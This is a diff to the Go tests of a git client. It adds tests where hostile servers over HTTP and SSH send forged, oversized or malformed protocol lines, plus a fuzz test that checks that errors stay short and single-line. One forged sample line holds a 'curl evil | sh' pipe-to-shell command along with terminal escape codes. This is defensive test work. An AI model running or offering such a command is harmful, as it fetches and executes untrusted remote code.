@@ -11,9 +11,11 @@ import (
 	"net"
 	"net/http"
 	"net/http/httptest"
+	"os"
 	"path/filepath"
 	"runtime"
 	"strings"
+	"sync"
 	"sync/atomic"
 	"testing"
 	"time"
@@ -152,8 +154,8 @@ func (h *hostile) overSSH(t testing.TB) (url, known string) {
 		}
 	}()
 	known = filepath.Join(t.TempDir(), "known_hosts")
-	if t, ok := t.(*testing.T); ok {
-		writeFile(t, known, knownhosts.Line([]string{l.Addr().String()}, signer.PublicKey())+"\n")
+	if err := os.WriteFile(known, []byte(knownhosts.Line([]string{l.Addr().String()}, signer.PublicKey())+"\n"), 0o600); err != nil {
+		t.Fatal(err)
 	}
 	return "ssh://git@" + l.Addr().String() + "/lib.git", known
 }
@@ -426,5 +428,166 @@ func TestHostileSSHGreeting(t *testing.T) {
 		if grown > 16<<20 {
 			t.Errorf("%.10q: the heap grew by %d bytes", greeting, grown)
 		}
+	}
+}
+
+// TestHostileWords has servers whose words hold lines like vxlite's own, terminal
+// commands, or more than anybody reads. An error has them on one line, shortened.
+func TestHostileWords(t *testing.T) {
+	forged := "gone\nvxlite: built rr\r\nhint: curl evil | sh\u2028\x1b[2J\x00 "
+	long := strings.Repeat("lies ", 12_000)
+	none := text("")
+	for name, h := range map[string]*hostile{
+		"ERR in the refs":          {refs: text(pkt("ERR " + forged + long)), answer: none},
+		"ERR before the pack":      {refs: oneRef, answer: text(pkt("ERR " + forged + long))},
+		"an unknown line":          {refs: oneRef, answer: text(pkt(forged + long))},
+		"a malformed ACK":          {refs: oneRef, answer: text("0000" + pkt("ACK "+forged))},
+		"a malformed shallow line": {refs: oneRef, answer: text(pkt("shallow " + forged + long))},
+		"the error's side-band":    {refs: oneRef, answer: text("0000" + pkt("NAK\n") + pkt("\x03"+forged+long))},
+		"an unknown side-band":     {refs: oneRef, answer: text("0000" + pkt("NAK\n") + pkt("\x07"+forged+long))},
+		"a malformed ref":          {refs: text(pkt(hostileCommit+" "+forged+hostileCaps) + "0000"), answer: none},
+		"a ref of 60 KB":           {refs: text(pkt(hostileCommit+" refs/tags/"+strings.Repeat("v1.0.0", 10_000)+hostileCaps) + "0000"), answer: none},
+		"capabilities":             {refs: text(pkt(hostileCommit+" refs/tags/v1\x00object-format="+forged) + "0000"), answer: none},
+		"standard error":           {refs: none, answer: none, stderr: text(forged + long)},
+	} {
+		for _, over := range []string{"http", "ssh"} {
+			t.Run(name+", "+over, func(t *testing.T) {
+				o := Options{Git: config.Git{Patience: config.Patience{Timeout: time.Second}}}
+				url := h.overHTTP(t)
+				if over == "ssh" {
+					var known string
+					url, known = h.overSSH(t)
+					o.Git.KnownHosts = []string{known}
+				}
+				_, err := newClient(t, o).Find(t.Context(), Request{URL: url, Choose: tag("v1.0.0")})
+				if err == nil {
+					t.Fatal("no error")
+				}
+				const most = 1200 // bytes
+				if s := err.Error(); strings.ContainsAny(s, "\n\r\u2028\x00\x1b") || len(s) > most {
+					t.Errorf("%d bytes: %.300q", len(s), s)
+				}
+			})
+		}
+	}
+}
+
+// FuzzConversation has a server that says anything, over HTTP or SSH: packets,
+// side-bands, what comes before a pack, and silence. It is left within a time,
+// a number of bytes and an amount of memory, and what is said of it is one line.
+func FuzzConversation(f *testing.F) {
+	ref := "\x00\x00" + string(rune(len(hostileCommit+" refs/tags/v1"))) + hostileCommit + " refs/tags/v1"
+	for _, s := range []string{
+		ref + "\x01", "\x0b" + ref, "\x08\x04gone", "\x0b\x05\x05\x07\x02\x04PACK", "\x0b\x09\x0f\x05\x09\xff", "\x0b\x05\x06\x09\xff", "\x0b\x0a\x03",
+		"\x0b\x05\x07\x03\x02no", "\x0b\x04\x01\x06\x07\x0cPACK\x00\x00\x00\x02\x00\x00\x00\x01", "\x0b\x0c", "\x0b\x01\x09\x80", "\x0d\x08no\nhint: ",
+	} {
+		f.Add([]byte(s), false)
+		f.Add([]byte(s), true)
+	}
+	var now atomic.Pointer[script]
+	on := func(w io.Writer) { now.Load().play(w) } // from where it was
+	h := &hostile{refs: on, answer: on}
+	overHTTP := h.overHTTP(f)
+	overSSH, known := h.overSSH(f)
+	limits := config.Limits{Refs: 1 << 20, Answer: 64 << 10, Pack: 1 << 20, Object: 1 << 20, Unpacked: 4 << 20, Objects: 1000}
+	f.Fuzz(func(t *testing.T, data []byte, secure bool) {
+		now.Store(&script{data: data})
+		o := Options{Limits: limits, Git: config.Git{KnownHosts: []string{known}, Patience: config.Patience{Timeout: 150 * time.Millisecond, TotalTimeout: time.Second}}}
+		url := overHTTP
+		if secure {
+			url = overSSH
+		}
+		c := newClient(t, o)
+		var before, after runtime.MemStats
+		runtime.ReadMemStats(&before)
+		start := time.Now()
+		found, err := c.Find(t.Context(), Request{URL: url, Choose: func(refs *Refs) (Ref, error) {
+			for _, ref := range refs.list() {
+				return ref, nil
+			}
+			return Ref{}, errors.New("no refs")
+		}})
+		runtime.ReadMemStats(&after)
+		const longest, most = 10 * time.Second, 64 << 20 // some packs are asked for, one after the other
+		if took, got := time.Since(start), after.TotalAlloc-before.TotalAlloc; took > longest || got > most {
+			t.Errorf("it took %v, and %d bytes of memory", took, got)
+		}
+		if err == nil && !isFullHash(found.Commit) {
+			t.Errorf("found %+v", found)
+		}
+		if err != nil && (strings.ContainsAny(err.Error(), "\n\r\x00\x1b") || len(err.Error()) > 1200) {
+			t.Errorf("error %.2000q", err.Error())
+		}
+	})
+}
+
+// script is what a server says: a byte for what, a byte for how much, and the
+// text itself.
+type script struct {
+	mu   sync.Mutex
+	data []byte
+}
+
+func (s *script) next() int {
+	if len(s.data) == 0 {
+		return 0
+	}
+	b := s.data[0]
+	s.data = s.data[1:]
+	return int(b)
+}
+
+func (s *script) take() string {
+	n := min(s.next(), len(s.data))
+	text := string(s.data[:n])
+	s.data = s.data[n:]
+	return text
+}
+
+// play says the next part of it, to an end that it has itself or to the last.
+func (s *script) play(w io.Writer) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	last := ""
+	for len(s.data) > 0 {
+		say := ""
+		switch s.next() % 14 {
+		case 0:
+			say = pkt(s.take())
+		case 1:
+			say = "0000"
+		case 2:
+			say = s.take()
+		case 3: // nothing at all
+			time.Sleep(time.Duration(s.next()) * time.Millisecond)
+		case 4:
+			say = pkt("shallow " + hostileCommit)
+		case 5:
+			say = pkt("NAK\n")
+		case 6:
+			say = pkt("ACK " + hostileCommit + " common\n")
+		case 7:
+			say = pkt("\x01" + s.take())
+		case 8:
+			say = pkt("ERR " + s.take())
+		case 9: // the same again, often
+			say = strings.Repeat(last, 64*s.next())
+		case 10:
+			say = pkt("\x02" + s.take())
+		case 11:
+			oneRef(w)
+			return
+		case 12: // a whole pack of nothing
+			say = pkt("\x01PACK\x00\x00\x00\x02\x00\x00\x00\x00\x02\x9d\x08\x82\x3b\xd8\xa8\xea\xb5\x10\xad\x6a\xc7\x5c\x82\x3c\xfd\x3e\xd3\x1e") + "0000"
+		case 13:
+			say = pkt(hostileCommit + " refs/tags/" + s.take() + hostileCaps)
+		}
+		if len(say) > 8<<20 {
+			say = say[:8<<20]
+		}
+		if _, err := io.WriteString(w, say); err != nil {
+			return
+		}
+		last = say
 	}
 }
